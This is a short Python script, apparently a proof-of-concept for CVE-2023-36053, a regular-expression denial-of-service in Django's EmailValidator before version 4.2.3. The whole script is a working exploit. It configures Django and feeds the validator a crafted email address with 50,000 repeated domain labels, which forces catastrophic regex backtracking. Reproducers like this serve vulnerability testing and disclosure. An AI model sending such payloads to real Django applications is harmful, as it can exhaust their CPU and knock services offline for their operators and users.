# PYSEC-2023-100 (CVE-2023-36053): Django before 4.2.3, EmailValidator and URLValidator use regexes that backtrack
# catastrophically on a domain with a very large number of labels (ReDoS).
from django.conf import settings

settings.configure(USE_I18N=False)
from django.core.validators import EmailValidator  # noqa: E402

EmailValidator()("a@" + "a." * 50000 + "!")
